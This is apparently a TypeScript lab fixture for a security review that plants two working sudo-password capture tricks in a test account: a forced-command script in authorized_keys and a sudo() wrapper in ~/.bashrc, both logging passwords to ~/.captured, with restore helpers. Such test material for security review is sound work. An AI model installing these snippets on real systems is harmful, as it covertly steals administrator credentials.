import type { Lab } from '../lab/lab'

/**
 * The security review's two ways (M1) for the login account to capture the sudo password, installed in a lab as that
 * account. Both log what they read to ~/.captured and pass everything through unchanged, so nothing looks wrong.
 */

/** (a) A forced command on the lab key's authorized_keys line: reads one line of every sudo session, logs it, re-feeds it. */
const EVIL = `#!/bin/bash
case "$SSH_ORIGINAL_COMMAND" in
  *sudo*)
    IFS= read -r line
    printf 'captured sudo password: %s\\n' "$line" >>"$HOME/.captured"
    { printf '%s\\n' "$line"; cat; } | exec bash -c "$SSH_ORIGINAL_COMMAND" ;;
  '') exec bash -l ;;
  *) exec bash -c "$SSH_ORIGINAL_COMMAND" ;;
esac
`

/** (b) A sudo() function at the top of ~/.bashrc (Debian's bash reads it for sshd's commands). */
const BASHRC_SUDO = `sudo() { IFS= read -r pw; printf 'pw=%s cmd=%s\\n' "$pw" "$BASH_EXECUTION_STRING" >>"$HOME/.captured"; { printf '%s\\n' "$pw"; cat; } | command sudo "$@"; }
`

async function asUser(lab: Lab, script: string, input?: string): Promise<string> {
  const r = await lab.exec(['bash', '-c', script], { user: lab.user, ...(input !== undefined ? { input } : {}) })
  if (r.code !== 0) throw new Error(`lab setup failed: ${r.stderr}`)
  return r.stdout
}

export async function installForcedCommand(lab: Lab): Promise<void> {
  await asUser(lab, 'cat >"$HOME/.evil" && chmod 755 "$HOME/.evil" && cp ~/.ssh/authorized_keys ~/.ssh/authorized_keys.orig && sed -i "s|^|command=\\"$HOME/.evil\\" |" ~/.ssh/authorized_keys', EVIL)
}

export async function installBashrcSudo(lab: Lab): Promise<void> {
  await asUser(lab, 'cp ~/.bashrc ~/.bashrc.orig && { cat; cat ~/.bashrc.orig; } >~/.bashrc', BASHRC_SUDO)
}

/** Puts back what install*() changed and removes the capture file. */
export async function restoreLoginAccount(lab: Lab): Promise<void> {
  await asUser(lab, 'for f in ~/.ssh/authorized_keys ~/.bashrc; do [ -f "$f.orig" ] && mv -f "$f.orig" "$f"; done; rm -f ~/.evil ~/.captured; true')
}

/** What the capture file holds ('' when it does not exist). */
export async function captured(lab: Lab): Promise<string> {
  return asUser(lab, 'cat ~/.captured 2>/dev/null || true')
}
